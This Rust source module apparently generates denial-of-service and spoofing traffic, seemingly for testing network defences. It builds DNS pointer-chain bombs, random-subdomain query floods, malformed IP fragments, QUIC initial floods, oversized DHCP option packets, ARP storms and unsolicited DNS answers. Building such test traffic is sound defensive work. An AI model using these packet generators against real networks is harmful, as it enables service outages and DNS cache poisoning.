//! Attacks over UDP and ARP.

use std::io::{self, Write};

use super::packets::{Writer, fragment, udp};
use super::scenes::{VICTIM, honest, stranger};

const RESOLVER: ([u8; 4], u16) = ([203, 0, 113, 53], 53);

/// Messages of 60 KB, all of them names that point to the name before.
pub fn pointer_chains(out: &mut dyn Write, amount: u64) -> io::Result<u64> {
    let mut message = vec![0x12, 0x34, 0x81, 0x80, 0, 1, 0x13, 0x88, 0, 0, 0, 0, 1, b'a', 0, 0, 1, 0, 1];
    let mut before = 12_u16;
    while message.len() < 60_000 {
        let here = message.len() as u16;
        message.extend([1, b'b']);
        message.extend((0xc000 | before & 0x3fff).to_be_bytes());
        message.extend([0, 5, 0, 1, 0, 0, 0, 9, 0, 2]);
        message.extend((0xc000 | before & 0x3fff).to_be_bytes());
        before = here;
    }
    let mut writer = Writer::new(out, amount, honest())?;
    for number in 0..amount {
        let client = (stranger(number), 1024 + (number % 60_000) as u16);
        writer.attack(&udp(RESOLVER, client, &message))?;
    }
    writer.end()
}

/// Questions that nobody answers, each for another name.
pub fn questions(out: &mut dyn Write, amount: u64) -> io::Result<u64> {
    let mut writer = Writer::new(out, amount, honest())?;
    for number in 0..amount {
        let name = format!("{number:012}");
        let mut message = vec![number as u8, (number >> 8) as u8, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 12];
        message.extend(name.as_bytes());
        message.extend(b"\x0cmsftconnecttest\x03com\0\0\x01\0\x01");
        writer.attack(&udp((stranger(number / 64), 1024 + (number % 60_000) as u16), RESOLVER, &message))?;
    }
    writer.end()
}

/// Datagrams that are never whole: pieces that leave holes, that overlap, and ends without a start.
pub fn fragments(out: &mut dyn Write, amount: u64) -> io::Result<u64> {
    let mut writer = Writer::new(out, amount, honest())?;
    let data = [0x5a; 64];
    for number in 0..amount {
        let (id, place) = ((number / 32) as u16, (number % 32) as u16);
        let (id, at) = match number / 32 % 3 {
            0 => (id, place * 17),
            1 => (id, place),
            _ => (number as u16, 8100),
        };
        writer.attack(&fragment((stranger(number / 2048), 0), (stranger(5), 0), id, at, true, &data))?;
    }
    writer.end()
}

/// The shortest packets that look like QUIC's first, four in a datagram, each with keys of its own.
pub fn initials(out: &mut dyn Write, amount: u64) -> io::Result<u64> {
    let mut writer = Writer::new(out, amount, honest())?;
    for number in 0..amount {
        let mut datagram = Vec::new();
        for part in 0..4_u8 {
            datagram.extend([0xc3, 0, 0, 0, 1, 8]);
            datagram.extend((number * 4 + u64::from(part)).to_be_bytes());
            datagram.extend([0, 0, 0x40, 20]);
            datagram.extend([part; 20]);
        }
        let client = (stranger(number), 1024 + (number % 60_000) as u16);
        writer.attack(&udp(client, (VICTIM.0, 443), &datagram))?;
    }
    writer.end()
}

/// As many options as there is room for, none with a value.
pub fn dhcp_options(out: &mut dyn Write, amount: u64) -> io::Result<u64> {
    let mut message = vec![1, 1, 6, 0];
    message.resize(236, 0);
    message.extend([0x63, 0x82, 0x53, 0x63, 53, 1, 1]);
    for number in 0..600_u32 {
        message.extend([254 - (number % 254) as u8, 0]);
    }
    let mut writer = Writer::new(out, amount, honest())?;
    for number in 0..amount {
        message[4..8].copy_from_slice(&(number as u32).to_be_bytes());
        message[28..34].copy_from_slice(&[2, 0, 0, 0, (number >> 8) as u8, number as u8]);
        writer.attack(&udp(([0, 0, 0, 0], 68), ([255, 255, 255, 255], 67), &message))?;
    }
    writer.end()
}

/// Everybody asks for everybody's link address.
pub fn arp(out: &mut dyn Write, amount: u64) -> io::Result<u64> {
    let mut writer = Writer::new(out, amount, honest())?;
    for number in 0..amount {
        let (from, to) = (stranger(number), stranger(number / 2 + 7));
        let mut frame = vec![0xff; 6];
        frame.extend([2, 1, from[0], from[1], from[2], from[3], 8, 6, 0, 1, 8, 0, 6, 4, 0, 1]);
        frame.extend([2, 1, from[0], from[1], from[2], from[3]]);
        frame.extend(from);
        frame.extend([0; 6]);
        frame.extend(to);
        writer.attack(&frame)?;
    }
    writer.end()
}

/// Answers that nobody asked for.
pub fn answers(out: &mut dyn Write, amount: u64) -> io::Result<u64> {
    let mut writer = Writer::new(out, amount, honest())?;
    for number in 0..amount {
        let mut message = vec![number as u8, (number >> 8) as u8, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
        message.extend(b"\x03www\x0fmsftconnecttest\x03com\0\0\x01\0\x01\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04");
        message.extend(stranger(number + 1));
        writer.attack(&udp(RESOLVER, (stranger(number / 64), 1024 + (number % 60_000) as u16), &message))?;
    }
    writer.end()
}
